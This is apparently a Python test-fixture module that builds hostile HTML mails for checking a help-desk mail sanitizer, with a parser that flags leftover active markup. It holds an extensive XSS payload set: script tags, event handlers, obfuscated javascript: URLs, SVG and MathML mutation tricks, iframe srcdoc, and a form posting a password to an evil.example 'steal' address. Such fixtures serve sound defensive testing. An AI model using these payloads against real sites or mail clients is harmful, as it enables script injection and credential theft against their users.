"""Hostile HTML mail, built at test time, and the check that a display of it is harmless.

``CASES``: each an HTML body an attacker (or a careless mail client) may send, with the
words that must still be visible once sanitized. ``hostile_mail`` wraps a case in a real
mail, in any transfer encoding and charset. Every script payload here sets
``document.title`` to ``PWNED`` or ``window.pwned``, so a browser can tell whether it ran.
``unsafe_markup`` lists what active content a piece of HTML still holds (empty: harmless),
read with Python's ``html.parser`` (entities decoded as a browser decodes them).

Only reserved domains are used (``*.example``); the help desk is ``info@rn.example``.
"""

from __future__ import annotations

import base64
import quopri
from dataclasses import dataclass
from html.parser import HTMLParser

JS = "document.title='PWNED';window.pwned=1"


@dataclass(frozen=True)
class Case:
    name: str
    html: str
    shows: tuple[str, ...]  # words that must stay visible


def _case(name: str, html: str, *shows: str) -> Case:
    return Case(name, html, shows or (f"Bonjour {name}",))


CASES: tuple[Case, ...] = (
    _case("script", f"<p>Bonjour script</p><script>{JS}</script>"),
    _case("script-upper-src", "<p>Bonjour script-upper-src</p>"
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT><ScRiPt>" + JS + "</sCrIpT>"),
    _case("img-onerror", f"<p>Bonjour img-onerror</p><img src=x onerror=\"{JS}\" alt=photo>",
          "Bonjour img-onerror", "photo"),
    _case("handler-case-slashes",
          f"<p>Bonjour handler-case-slashes</p><img/src=x/OnErRoR={JS}>"
          f"<div ONMOUSEOVER=\"{JS}\">survol</div>", "Bonjour handler-case-slashes", "survol"),
    _case("handler-entities", "<p>Bonjour handler-entities</p>"
          "<img src=x onerror=\"&#100;ocument.title=&#x27;PWNED&#x27;\">"
          "<p onclick=&quot;x&quot; onfocus\n=\"" + JS + "\" autofocus tabindex=1>focus</p>",
          "Bonjour handler-entities", "focus"),
    _case("body-onload", f"<html><body onload=\"{JS}\"><p>Bonjour body-onload</p></body></html>"),
    _case("javascript-urls", "<p>Bonjour javascript-urls</p>"
          f"<a href=\"javascript:{JS}\">un</a> <a href=\"JaVaScRiPt:{JS}\">deux</a> "
          f"<a href=\"java&#x09;script:{JS}\">trois</a> <a href=\"java\tscript:{JS}\">quatre</a> "
          f"<a href=\"java\nscript:{JS}\">cinq</a> <a href=\"&#106;avascript:{JS}\">six</a> "
          f"<a href=\"  \x01javascript:{JS}\">sept</a> <a href=\"javascript&colon;{JS}\">huit</a>",
          "Bonjour javascript-urls", "un", "deux", "trois", "quatre", "cinq", "six", "sept",
          "huit"),
    _case("vbscript-data-urls", "<p>Bonjour vbscript-data-urls</p>"
          "<a href=\"vbscript:msgbox(1)\">vb</a> "
          "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a> "
          f"<a href=\"data:text/html,<script>{JS}</script>\">data2</a> "
          "<a href=\"/desk/tickets/1/close\">relatif</a> <a href=\"//evil.example/\">proto</a>",
          "Bonjour vbscript-data-urls", "vb", "data", "data2", "relatif", "proto"),
    _case("svg", f"<p>Bonjour svg</p><svg onload=\"{JS}\"><script>{JS}</script>"
          f"<a xlink:href=\"javascript:{JS}\"><text>t</text></a>"
          f"<animate onbegin=\"{JS}\" attributeName=x dur=1s /></svg>"),
    _case("math", "<p>Bonjour math</p><math><mtext><table><mglyph><style>"
          f"<img src=x onerror=\"{JS}\"></style></mglyph></table></mtext>"
          f"<maction actiontype=statusline xlink:href=\"javascript:{JS}\">m</maction></math>"),
    _case("iframe-srcdoc", f"<p>Bonjour iframe-srcdoc</p><iframe srcdoc=\"<script>{JS}"
          f"</script>\"></iframe><iframe src=\"javascript:{JS}\"></iframe>"
          "<frameset><frame src=\"https://evil.example/\"></frameset>"),
    _case("object-embed", f"<p>Bonjour object-embed</p><object data=\"javascript:{JS}\">"
          "</object><embed src=\"data:text/html;base64,PHNjcmlwdD4=\">"
          "<applet code=x.class></applet>"),
    _case("form", "<p>Bonjour form</p><form action=\"https://evil.example/steal\" "
          "method=post><input name=password type=password value=x>"
          f"<button formaction=\"javascript:{JS}\">Envoyer</button>"
          "<isindex action=javascript:alert(1)></form>"),
    _case("meta-refresh", "<head><meta http-equiv=\"refresh\" content=\"0;url=javascript:"
          f"{JS}\"><meta charset=utf-7></head><p>Bonjour meta-refresh</p>"),
    _case("base-href", "<base href=\"https://evil.example/\"><p>Bonjour base-href "
          "<a href=\"login\">connexion</a></p>", "Bonjour base-href", "connexion"),
    _case("style-element", "<style>body{background:url(javascript:alert(1))} "
          "p{width:expression(alert(1))} @import 'https://evil.example/x.css';</style>"
          "<link rel=stylesheet href=https://evil.example/x.css><p>Bonjour style-element</p>"),
    _case("style-attribute", "<p style=\"background:url(javascript:alert(1));"
          "behavior:url(x.htc);width:expression(alert(1))\">Bonjour style-attribute</p>"
          "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cache</div>",
          "Bonjour style-attribute", "cache"),
    _case("malformed", f"<p>Bonjour malformed <b>gras <i>italique<img src=x onerror={JS}//"
          f"<a href=\"javascript:{JS}\" <<script>script>{JS}<</script>/script>"
          "<div <p>fin", "Bonjour malformed", "gras"),
    _case("comments", "<p>Bonjour comments</p><!--<img src=x onerror=\"" + JS + "\">-->"
          "<!-- --!><img src=x onerror=\"" + JS + "\">-->"
          "<!--[if IE]><script>" + JS + "</script><![endif]-->"
          "<!--><img src=x onerror=\"" + JS + "\">-->"),
    _case("cdata", "<p>Bonjour cdata</p><![CDATA[<script>" + JS + "</script>]]>"
          "<svg><![CDATA[><img src=x onerror=\"" + JS + "\">]]></svg>"),
    _case("mxss-noscript", "<p>Bonjour mxss-noscript</p><noscript><p title=\"</noscript>"
          f"<img src=x onerror=\\\"{JS}\\\">\"></noscript>"
          f"<noscript><style></noscript><img src=x onerror=\"{JS}\"></noscript>"),
    _case("mxss-textarea-title", "<p>Bonjour mxss-textarea-title</p><textarea>"
          f"</textarea><img src=x onerror=\"{JS}\"><title><img src=x onerror=\"{JS}\"></title>"
          f"<xmp><img src=x onerror=\"{JS}\"></xmp>"),
    _case("mxss-form-math", "<p>Bonjour mxss-form-math</p><form><math><mtext></form><form>"
          f"<mglyph><style></math><img src onerror=\"{JS}\">"),
    _case("template", f"<p>Bonjour template</p><template><img src=x onerror=\"{JS}\">"
          "</template>"),
    _case("backgrounds", "<table background=\"javascript:alert(1)\"><tr><td background="
          "\"https://tracker.example/bg.gif\">Bonjour backgrounds</td></tr></table>"
          "<img srcset=\"https://tracker.example/a.gif 1x\" alt=\"\">"),
    _case("image-tag", f"<p>Bonjour image-tag</p><image src=x onerror=\"{JS}\" alt=dessin>",
          "Bonjour image-tag", "dessin"),
    _case("more-handlers", f"<p>Bonjour more-handlers</p><details open ontoggle=\"{JS}\">"
          f"détails</details><marquee onstart=\"{JS}\">défile</marquee><video><source "
          f"onerror=\"{JS}\"></video><input autofocus onfocus=\"{JS}\"><keygen autofocus "
          f"onfocus=\"{JS}\"><a href=\"https://ok.example/\" ping=\"https://tracker.example/\""
          " target=_blank style=\"color:red\">lien sûr</a>",
          "Bonjour more-handlers", "détails", "défile", "lien sûr"),
    _case("odd-schemes", "<p>Bonjour odd-schemes</p><a href=\"java\x00script:alert(1)\">nul</a>"
          " <a href=\"\u2028javascript:alert(1)\">sep</a> <a href=\"\uff4a\uff41\uff56\uff41"
          "script:alert(1)\">large</a> <a href=\"javascript://https://ok.example/%0aalert(1)\">"
          "commentaire</a> <a href=\"https:javascript:alert(1)\">mixte</a>",
          "Bonjour odd-schemes", "nul", "sep", "large", "commentaire", "mixte"),
    _case("tracking-pixel", "<p>Bonjour tracking-pixel</p><img src=\"https://tracker"
          ".example/p.gif?id=42\" width=1 height=1><img src=\"data:image/svg+xml;base64,"
          "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"schéma\">", "Bonjour tracking-pixel", "schéma"),
)


# How mail clients mark the quoted history of a reply: (own words, quoted words, HTML).
QUOTING: dict[str, tuple[str, str, str]] = {
    "gmail": ("Merci pour votre aide", "Votre clé est débloquée", (
        '<div dir="ltr">Merci pour votre aide</div><br><div class="gmail_quote '
        'gmail_quote_container"><div dir="ltr" class="gmail_attr">Le ven. 4 déc. 2026 à '
        '10:00, Help Desk &lt;info@rn.example&gt; a écrit&nbsp;:<br></div><blockquote '
        'class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid '
        'rgb(204,204,204)">Votre clé est débloquée<img src=x onerror="' + JS + '">'
        '</blockquote></div>')),
    "outlook": ("Dank u wel voor het antwoord", "Uw toegang is hersteld", (
        '<div class="WordSection1"><p class="MsoNormal">Dank u wel voor het antwoord</p>'
        '</div><div id="appendonsend"></div><hr style="display:inline-block;width:98%" '
        'tabindex="-1"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri"><b>Van:</b> '
        'Help Desk &lt;info@rn.example&gt;<br><b>Verzonden:</b> vrijdag 4 december 2026'
        '</font></div><div><p>Uw toegang is hersteld</p><script>' + JS + '</script></div>')),
    "apple-mail": ("Parfait, cela fonctionne", "Essayez à nouveau demain", (
        '<html><body style="word-wrap: break-word;"><div>Parfait, cela fonctionne</div>'
        '<div><br><blockquote type="cite"><div>Le 4 déc. 2026 à 10:00, Help Desk '
        '&lt;info@rn.example&gt; a écrit :</div><div><div>Essayez à nouveau demain</div>'
        '</div></blockquote></div></body></html>')),
    "thunderbird": ("Bedankt, het werkt nu", "Probeer het morgen opnieuw", (
        '<p>Bedankt, het werkt nu</p><div class="moz-cite-prefix">Op 04-12-2026 om 10:00 '
        'schreef Help Desk:<br></div><blockquote type="cite" cite="mid:x@rn.example">'
        '<p>Probeer het morgen opnieuw</p><a href="javascript:' + JS + '">lien</a>'
        '</blockquote>')),
    "attribution-line": ("Vielen Dank für die Hilfe", "Ihr Zugang ist wieder frei", (
        '<p>Vielen Dank für die Hilfe</p><p>Am Fr., 4. Dez. 2026 um 10:00 Uhr schrieb Help '
        'Desk &lt;info@rn.example&gt;:</p><blockquote style="border-left:1px solid">'
        '<p>Ihr Zugang ist wieder frei</p></blockquote>')),
}


def hostile_mail(case: Case, *, encoding: str = "8bit", charset: str = "utf-8",
                 text: str | None = None) -> bytes:
    """``case`` as a mail (subject: its name): an HTML part in ``encoding`` (``8bit``,
    ``quoted-printable``, ``base64``) and ``charset``, after a text part if ``text``."""
    body = case.html.encode(charset)
    if encoding == "base64":
        payload = base64.encodebytes(body)
    elif encoding == "quoted-printable":
        payload = quopri.encodestring(body)
    else:
        payload = body
    html_part = (f"Content-Type: text/html; charset={charset}\r\n"
                 f"Content-Transfer-Encoding: {encoding}\r\n\r\n").encode() + payload
    head = (f"From: Requester <requester@example.org>\r\nTo: info@rn.example\r\n"
            f"Subject: {case.name}\r\nDate: Sun, 06 Dec 2026 10:00:00 +0100\r\n"
            f"Message-ID: <{case.name}.{encoding}.{charset}@example.org>\r\n"
            "MIME-Version: 1.0\r\n").encode()
    if text is None:
        return head + html_part
    boundary = b"=_hostile"
    return (head + b"Content-Type: multipart/alternative; boundary=\"=_hostile\"\r\n\r\n"
            + b"--" + boundary + b"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
            + text.encode() + b"\r\n--" + boundary + b"\r\n" + html_part + b"\r\n--"
            + boundary + b"--\r\n")


ALLOWED_ATTRIBUTES = {"href", "rel", "colspan", "rowspan", "start"}
ACTIVE = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "meta",
          "base", "link", "img", "input", "button", "textarea", "frame", "frameset", "applet",
          "template", "noscript", "audio", "video", "source", "image", "use", "animate", "set"}


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name not in ALLOWED_ATTRIBUTES:
                self.problems.append(f"<{tag} {name}>")
            if name == "href":
                scheme = "".join((value or "").split()).split(":", 1)
                if len(scheme) < 2 or scheme[0].lower() not in ("http", "https", "mailto"):
                    self.problems.append(f"<{tag} href={value!r}>")
            if name == "rel" and value != "noopener noreferrer nofollow":
                self.problems.append(f"<{tag} rel={value!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"<![{data}]>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"<?{data}>")


def unsafe_markup(html: str) -> list[str]:
    """What of ``html`` could be active: a tag of ``ACTIVE``, an attribute besides
    ``ALLOWED_ATTRIBUTES`` (every ``on…`` handler among them), a link whose scheme is not
    http, https or mailto, a comment or a declaration. Empty: harmless."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems
